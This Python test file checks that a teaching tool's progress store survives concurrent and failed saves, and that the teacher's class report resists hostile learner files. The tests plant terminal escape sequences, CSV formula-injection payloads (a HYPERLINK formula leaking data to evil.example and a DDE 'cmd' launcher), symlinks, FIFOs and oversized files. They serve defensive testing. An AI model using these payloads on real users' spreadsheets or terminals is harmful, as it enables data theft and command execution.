"""Issue 12 items 3 and 7: learners' progress files.

Item 3: two gradtui processes of one learner saving at once lost 83-86 of 200 saves (and a
completed lesson's record in 3 of 20 trials); a full disk dropped progress silently.
Item 7: ``gradtui lab progress`` trusted the learners' own ``progress.json``: escape sequences
reached the teacher's terminal, ``=HYPERLINK(...)`` landed in the CSV, a wrong type crashed the
table for the whole class, a symlink to ``/dev/zero`` read 2.6 GB and a FIFO hung it.

Every attack runs against the real commands (``gradtui lab progress`` and ``gradtui lesson
--plain`` as subprocesses, with timeouts); the last test plants the files from inside a real
sandboxed session, as a learner would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from gradtui.lessons.progress import LessonProgress, ProgressStore

from .helpers import needs_bwrap

TIMEOUT = 60  # every command below finishes in seconds; a hang fails the test instead


def lab(tmp_path: Path) -> Path:
    config = tmp_path / "lab.toml"
    config.write_text('[learners]\nroster = "roster.toml"\nroot = "learners"\n')
    return config


def learner_data(tmp_path: Path, name: str) -> Path:
    data = tmp_path / "learners" / name / "data"
    data.mkdir(parents=True, exist_ok=True)
    return data


def good_learner(tmp_path: Path, name: str = "ann") -> None:
    ProgressStore(learner_data(tmp_path, name)).save(
        LessonProgress("variables", "Variables", 7, current_step=3, steps_done=3, hints_used=1))


def hostile(tmp_path: Path, name: str, lessons: dict[str, dict[str, object]]) -> Path:
    path = learner_data(tmp_path, name) / "progress.json"
    path.write_text(json.dumps({"version": 2, "lessons": lessons}))
    return path


def lab_progress(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ}
    env.pop("GRADTUI_LESSONS", None)
    result = subprocess.run(
        [sys.executable, "-m", "gradtui", "lab", "progress", "--config", str(config), *args],
        capture_output=True, text=True, timeout=TIMEOUT, env=env,
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result


def entry(lesson_id: str, **fields: object) -> dict[str, object]:
    return {"lesson_id": lesson_id, "title": "T", "steps_total": 3, **fields}


# --- item 3: saves that race, saves that fail ------------------------------------------------

WRITER = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from gradtui.lessons.progress import LessonProgress, ProgressStore
    data, me, go = Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
    store = ProgressStore(data)
    shared = store.get("shared") or LessonProgress("shared", "Shared", steps_total=400)
    print("ready", flush=True)
    while not go.exists():
        time.sleep(0.001)
    for n in range(200):
        store.save(LessonProgress(f"{me}-{n}", "Own", steps_total=1, current_step=1,
                                  steps_done=1, completed=True))
        shared.hints_used += 1
        shared.step_record(n).cells += 1
        if me == "a" and n == 100:  # one process completes the shared lesson midway
            shared.current_step = shared.steps_done = 400
            shared.mark_completed()
        store.save(shared)
""")


def test_two_processes_saving_200_times_concurrently_lose_nothing(tmp_path: Path) -> None:
    go = tmp_path / "go"
    writers = [subprocess.Popen([sys.executable, "-c", WRITER, str(tmp_path), me, str(go)],
                                stdout=subprocess.PIPE, text=True) for me in ("a", "b")]
    try:
        for writer in writers:
            assert writer.stdout is not None and writer.stdout.readline() == "ready\n"
        go.touch()  # both start saving at the same moment
        for writer in writers:
            assert writer.wait(timeout=120) == 0
    finally:
        for writer in writers:
            writer.kill()
            writer.wait()
            if writer.stdout is not None:
                writer.stdout.close()
    store = ProgressStore(tmp_path)
    saved = store.load()
    assert store.problem is None
    missing = [f"{me}-{n}" for me in "ab" for n in range(200) if f"{me}-{n}" not in saved]
    assert missing == []  # every one of the 400 saves is there
    shared = saved["shared"]
    assert shared.hints_used == 400  # the same lesson's counts, from both, add up
    assert [r.cells for r in shared.steps] == [2] * 200
    assert shared.completed and shared.first_completion is not None


def _file_size_limit() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # the write fails with EFBIG instead
    resource.setrlimit(resource.RLIMIT_FSIZE, (300, 300))


@pytest.mark.slow
def test_a_save_the_disk_refuses_is_told_in_the_plain_lesson_and_the_old_file_kept(
    tmp_path: Path,
) -> None:
    # A file size limit refuses the write as a full disk would (and works as root, unlike a
    # read-only folder).
    data = tmp_path / "data"
    ProgressStore(data).save(LessonProgress("gradients", "Gradients", 11, current_step=4,
                                            steps_done=4))
    before = (data / "progress.json").read_bytes()
    assert len(before) > 300  # the next write cannot fit under the limit
    env = {**os.environ, "GRADTUI_DATA_DIR": str(data), "GRADTUI_STATE_DIR": str(tmp_path)}
    cells = "import torch\nfrom torch.autograd import Variable\n\n:leave\n"
    result = subprocess.run(
        [sys.executable, "-m", "gradtui", "lesson", "variables", "--plain", "--ascii"],
        input=cells, capture_output=True, text=True, env=env, timeout=TIMEOUT * 3,
        preexec_fn=_file_size_limit,
    )
    out = " ".join(result.stdout.split())  # the plain REPL wraps its lines
    assert "! Your progress was not saved: a file size limit was reached" in out, out[-2000:]
    assert "saved at your next step once that is fixed" in out
    assert "Leaving the lesson. Your latest progress could NOT be saved" in out
    assert (data / "progress.json").read_bytes() == before  # nothing half-written


# --- item 7: the teacher reads the class's files ------------------------------------------------


def test_escape_sequences_in_a_learners_file_arrive_escaped(tmp_path: Path) -> None:
    config = lab(tmp_path)
    good_learner(tmp_path)
    evil_id = "\x1b]0;pwned\x07\x1b[2J\x1b[31mgradients\r\u202e"
    hostile(tmp_path, "mal", {evil_id: entry(evil_id, title="\x1b[5mblink")})
    # and one whose bad field puts the escape into the error message itself
    hostile(tmp_path, "eve", {"x": entry("x", last_active="\x1b[2J")})
    for args in ((), ("--by-step",), ("--format", "csv")):
        out = lab_progress(config, *args).stdout
        assert "\x1b" not in out and "\x07" not in out and "\r" not in out, args
        assert "\u202e" not in out, args
    table = lab_progress(config).stdout
    assert "mal: also \\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mgradients\\x0d\\u202e" in table
    assert "\\x1b[2J" in next(line for line in table.splitlines() if line.startswith("! eve"))
    data = json.loads(lab_progress(config, "--format", "json").stdout)
    mal = next(learner for learner in data if learner["learner"] == "mal")
    assert mal["lessons"][0]["lesson_id"] == evil_id  # JSON keeps the value, in JSON escapes


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
    config = lab(tmp_path)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]
    hostile(tmp_path, "mal", {f: entry(f, title=f) for f in formulas})
    rows = list(csv.DictReader(io.StringIO(lab_progress(config, "--format", "csv").stdout)))
    assert len(rows) == len(formulas)
    for row in rows:
        for column in ("lesson_id", "title"):
            assert row[column].startswith("'"), row[column]
    by_step = lab_progress(config, "--by-step", "--format", "csv").stdout
    assert "=HYPERLINK" not in by_step  # not in the course: no step of it is reported


def test_a_wrong_type_makes_one_learner_unreadable_not_the_whole_class(tmp_path: Path) -> None:
    config = lab(tmp_path)
    good_learner(tmp_path, "ann")
    hostile(tmp_path, "eve", {"variables": entry("variables", last_active=5)})
    hostile(tmp_path, "fay", {"variables": entry("variables", hints_used="lots")})
    learner_data(tmp_path, "gus")
    (tmp_path / "learners" / "gus" / "data" / "progress.json").write_text('["not", "a", "dict"]')
    good_learner(tmp_path, "zed")
    table = lab_progress(config).stdout
    rows = {line.split()[0]: line for line in table.splitlines()[2:7]}
    assert rows["ann"].split()[1:3] == ["3/7", "h1"] and rows["zed"].split()[1] == "3/7"
    assert "unreadable: lesson 'variables': `last_active` must be a string, not a number" in (
        rows["eve"])
    assert "`hints_used` must be a whole number" in rows["fay"]
    assert "unreadable: the file holds an array, not an object" in rows["gus"]
    for fmt in ("csv", "json"):
        assert "zed" in lab_progress(config, "--format", fmt).stdout


def test_a_symlink_to_dev_zero_is_refused_not_read(tmp_path: Path) -> None:
    config = lab(tmp_path)
    good_learner(tmp_path)
    (learner_data(tmp_path, "mal") / "progress.json").symlink_to("/dev/zero")
    table = lab_progress(config).stdout
    assert "! mal: unreadable:" in table and "links are not followed" in table


def test_a_fifo_does_not_hang_the_report(tmp_path: Path) -> None:
    config = lab(tmp_path)
    good_learner(tmp_path)
    os.mkfifo(learner_data(tmp_path, "mal") / "progress.json")  # nobody ever writes to it
    started = time.monotonic()
    table = lab_progress(config).stdout  # the timeout turns a hang into a failure
    assert "! mal: unreadable:" in table and "is not a regular file (a FIFO)" in table
    assert time.monotonic() - started < TIMEOUT


def test_a_learners_data_folder_linked_elsewhere_is_not_followed(tmp_path: Path) -> None:
    config = lab(tmp_path)
    elsewhere = tmp_path / "teachers-own"
    elsewhere.mkdir()
    ProgressStore(elsewhere).save(LessonProgress("variables", "Private", 7, current_step=5,
                                                 steps_done=5))
    (tmp_path / "learners" / "mal").mkdir(parents=True)
    (tmp_path / "learners" / "mal" / "data").symlink_to(elsewhere)
    table = lab_progress(config).stdout
    assert "5/7" not in table and "! mal: unreadable:" in table


def test_a_huge_or_deeply_nested_file_is_refused_quickly(tmp_path: Path) -> None:
    config = lab(tmp_path)
    big = learner_data(tmp_path, "mal") / "progress.json"
    with big.open("wb") as handle:  # 3 GB that take no disk space
        handle.truncate(3 << 30)
    (learner_data(tmp_path, "nest") / "progress.json").write_text("[" * 200_000)
    table = lab_progress(config).stdout
    assert "! mal: unreadable:" in table and "3,221,225,472 bytes" in table
    assert "! nest: unreadable:" in table


def test_a_thousand_made_up_lessons_do_not_widen_the_table(tmp_path: Path) -> None:
    config = lab(tmp_path)
    good_learner(tmp_path)
    hostile(tmp_path, "mal", {f"fake{n:04d}": entry(f"fake{n:04d}") for n in range(1000)})
    table = lab_progress(config).stdout
    assert max(len(line) for line in table.splitlines()) <= 100
    assert table.splitlines()[0].split() == ["learner", "1", "last", "seen"]
    assert "mal: also fake0000, fake0001, fake0002 and 997 more" in table


@needs_bwrap
async def test_files_planted_from_inside_a_session_do_not_hurt_the_teacher(security_lab) -> None:
    lab_ = await security_lab(sandbox="bwrap")
    plant = textwrap.dedent("""
        import json, os
        data = os.environ["GRADTUI_DATA_DIR"]
        os.makedirs(data, exist_ok=True)
        os.mkfifo(os.path.join(data, "progress.json"))
        print("planted")
    """)
    async with lab_.session("alice") as alice:
        assert (await alice.run(plant)).out.strip() == "planted"
    async with lab_.session("carol") as carol:
        evil = {"version": 2, "lessons": {"\x1b[2Jx": {"lesson_id": "\x1b[2Jx", "title": "t",
                                                        "steps_total": 1}}}
        cell = (f"import json, os\nd = os.environ['GRADTUI_DATA_DIR']\n"
                f"os.makedirs(d, exist_ok=True)\n"
                f"open(os.path.join(d, 'progress.json'), 'w').write({json.dumps(evil)!r})\n")
        assert (await carol.run(cell)).ok
    config = lab_.lab_dir / "lab.toml"
    table = lab_progress(config).stdout
    assert "! alice: unreadable:" in table and "a FIFO" in table
    assert "\x1b" not in table and "carol: also \\x1b[2Jx" in table
